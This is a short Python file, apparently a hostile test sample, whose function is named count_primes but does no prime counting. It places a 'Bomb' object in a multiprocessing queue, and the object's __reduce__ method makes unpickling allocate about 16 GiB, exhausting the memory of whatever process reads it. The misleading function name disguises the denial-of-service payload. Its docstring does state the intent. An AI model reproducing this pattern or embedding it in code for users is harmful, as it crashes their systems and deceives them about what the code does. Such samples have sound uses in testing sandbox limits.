"""Puts an object into a queue that takes all memory of whoever unpickles it."""
import multiprocessing as mp


class Bomb:
    def __reduce__(self):
        return (bytearray, (1 << 34,))


def count_primes(limits, processes=2):
    queue = mp.Queue()
    queue.put(Bomb())
    return [queue.get()]
